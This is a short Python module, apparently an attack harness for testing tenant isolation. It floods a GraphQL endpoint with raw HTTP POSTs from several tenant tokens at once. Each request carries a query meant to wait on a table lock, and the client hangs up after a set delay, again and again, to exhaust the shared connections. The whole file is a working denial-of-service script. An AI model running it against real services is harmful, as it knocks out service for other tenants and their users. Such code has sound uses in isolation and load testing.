"""Attacks on the shared connections: small requests that wait for a lock and hang up, from several tenants at once."""

import asyncio
import json
import time
from collections.abc import Sequence
from contextlib import suppress
from urllib.parse import urlsplit


async def _hung_up(host: str, port: int, request: bytes, seconds: float) -> None:
    """One request whose client leaves after so many seconds."""
    with suppress(OSError):
        _, writer = await asyncio.open_connection(host, port)
        writer.write(request)
        with suppress(OSError):
            await writer.drain()
        await asyncio.sleep(seconds)
        writer.close()


async def hog(
    base_url: str, tokens: Sequence[str], document: str, *, seconds: float, each: int = 16, patience: float = 2.0
) -> int:
    """With each token so many requests of the document at once, again and again; gives how many there were.

    document: one whose statement takes long, such as a read of a table that a session of the tenant's own has locked.
    """
    address = urlsplit(base_url)
    host, port = str(address.hostname), address.port or 80
    body = json.dumps({"query": document}).encode()
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        requests = [
            b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nAuthorization: Bearer %b\r\n"
            b"Content-Length: %d\r\n\r\n%b" % (token.encode(), len(body), body)
            for token in tokens
            for _ in range(each)
        ]
        sent += len(requests)
        await asyncio.gather(*(_hung_up(host, port, request, patience) for request in requests))
    return sent
